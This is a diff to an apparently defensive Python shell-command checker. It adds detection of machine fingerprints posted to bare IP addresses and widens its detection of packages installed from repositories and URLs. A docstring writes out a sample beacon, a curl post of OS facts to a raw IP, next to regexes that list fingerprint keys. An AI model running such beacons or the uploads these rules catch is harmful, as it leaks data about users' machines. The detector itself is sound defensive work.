@@ -25,6 +25,7 @@
 
 from __future__ import annotations
 
+import itertools
 import os
 import posixpath
 import re
@@ -43,7 +44,7 @@ from ..parse import Script, SimpleCommand, Substitution
 from ..paths import check_path, normalize_path
 from ..programs import SHELLS, Invocation, shell_mode, walk
 from ..project_commands import STDIN, planned
-from ..verdict import DOWNLOAD_RUN, EXFILTRATION, UPLOAD, Verdict
+from ..verdict import DOWNLOAD_RUN, EXFILTRATION, UNJUDGED_SCRIPT, UPLOAD, Verdict
 from ..workdir import call_directory
 from .credentials import credential_store
 from .impact import user_data
@@ -248,7 +249,10 @@ def _upload(invocation: Invocation, home: str) -> Verdict | None:
                 if what and (candidate != value or _sends_file(values, index)):
                     return _verdict(EXFILTRATION, invocation, f"{name} uploads {what}")
         return (
-            _substituted(invocation, home) or _encoded_host(invocation) or _query_to_raw_address(invocation)
+            _substituted(invocation, home)
+            or _encoded_host(invocation)
+            or _query_to_raw_address(invocation)
+            or _posted_to_raw_address(invocation)
         )
     batch = _batch_upload([], invocation, home)
     if batch:
@@ -493,6 +497,40 @@ def _query_to_raw_address(invocation: Invocation) -> Verdict | None:
             return _verdict(
                 EXFILTRATION, invocation, f"sends run-time data in the query of a URL to {match['host']}"
             )
+    return None
+
+
+_RAW_ADDRESS_HOST = lazy_compile(
+    r"^(?:https?://)?(?:[^/@?#]*@)?(?P<host>\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])(?::\d+)?(?:[/?#]|$)",
+    re.IGNORECASE,
+)
+_HOST_FACTS = lazy_compile(
+    r"""(?:^|[{,&\s"'])["']?(?:host_?name|computer_?name|user_?name|whoami|os_?version|os_?build|arch|locale"""
+    r"""|serial(?:_?number)?|hw_?uuid|machine_?id|mac_?address|local_?ip|ip_?address)["']?\s*[:=]""",
+    re.IGNORECASE,
+)
+"""A body's keys that describe the machine: ``{"os_version": ..., "arch": ..., "locale": ...}``."""
+
+
+def _posted_to_raw_address(invocation: Invocation) -> Verdict | None:
+    """``curl -d '{"os_version":"26.4","arch":"arm64",...}' http://188.166.83.118/api``: a beacon.
+
+    The host's facts posted, as a form or JSON, to a server that has only an address on the
+    internet: a stealer or implant reporting in (its body was filled before the shell saw it,
+    so the values are literal). A body of run-time values counts as well, as in the query.
+    """
+    command = invocation.command
+    values = [command.render(word) for word in invocation.args]
+    host = next(
+        (m["host"] for v in values if (m := _RAW_ADDRESS_HOST.match(v)) and _on_the_internet(m["host"])), None
+    )
+    if host is None:
+        return None
+    for option, body in itertools.pairwise(values):
+        if not _DATA_OPTION.match(option) or body.startswith("@"):
+            continue  # -d @file is an upload, judged by what the file is
+        if _HOST_FACTS.search(body) or _RUN_TIME_VALUE.search(body):
+            return _verdict(UPLOAD, invocation, f"posts facts about this machine to {host}, a bare address")
     return None
 
 
@@ -779,6 +817,8 @@ def _package_from_url(invocation: Invocation) -> Verdict | None:
     """``pip install https://host/pkg.tar.gz``: a package from no registry, whose build scripts run."""
     name = invocation.name
     values = _values(invocation)
+    if INTERPRETERS.match(name) and values[:2] == ["-m", "pip"]:
+        name, values = "pip", values[2:]  # python -m pip install …
     if name not in ("pip", "pip3", "npm", "pnpm", "yarn", "bun", "gem", "uv", "pipx", "cargo"):
         return None
     if not ({"install", "add", "i"} & set(values[:2]) or values[:2] == ["pip", "install"]):
@@ -791,14 +831,18 @@ def _package_from_url(invocation: Invocation) -> Verdict | None:
         if _REPOSITORY_PACKAGE.match(value) or (name == "cargo" and values[index - 1 : index] == ["--git"]):
             # pip install git+URL, npm install github:o/r, cargo install --git URL: a repository
             # fetched now and built, its setup.py / prepare script / build.rs run unseen.
-            why = f"installs a package built from the repository {value.rpartition('@ ')[2]}, fetched now"
-            return _verdict(DOWNLOAD_RUN, invocation, why)
+            # Asked, not blocked: a registry's package runs its setup code too, and passes.
+            why = (
+                f"installs a package built from the repository {value.rpartition('@ ')[2]}, fetched now: "
+                "its build code runs unseen"
+            )
+            return _verdict(UNJUDGED_SCRIPT, invocation, why)
     return None
 
 
 _REPOSITORY_PACKAGE = lazy_compile(
     r"^(?:[\w.\[\],-]+ ?@ ?)?(?:git|hg|svn|bzr)\+[a-z]+://\S+$|^git(?:\+ssh|\+https?)?://\S+$"
-    r"|^(?:github|gitlab|bitbucket|gist):\S+$"
+    r"|^(?:github|gitlab|bitbucket|gist):\S+$|^https?://\S+\.git(?:#\S*)?$"
 )
 """A package named by its source repository (pip's ``git+https://``, npm's ``github:owner/repo``)."""
 
@@ -832,7 +876,7 @@ def _interpreter_file(invocation: Invocation) -> str | None:
         ):
             return None
         if value in ("-W", "-X", "-I", "--require", "-d", "-C", "-x", "-f") or (
-            name.startswith("ruby") and value == "-r"
+            (ruby and value == "-r") or (name == "osascript" and value in ("-l", "-s"))
         ):
             skip = value != "-f"
             if value == "-f":
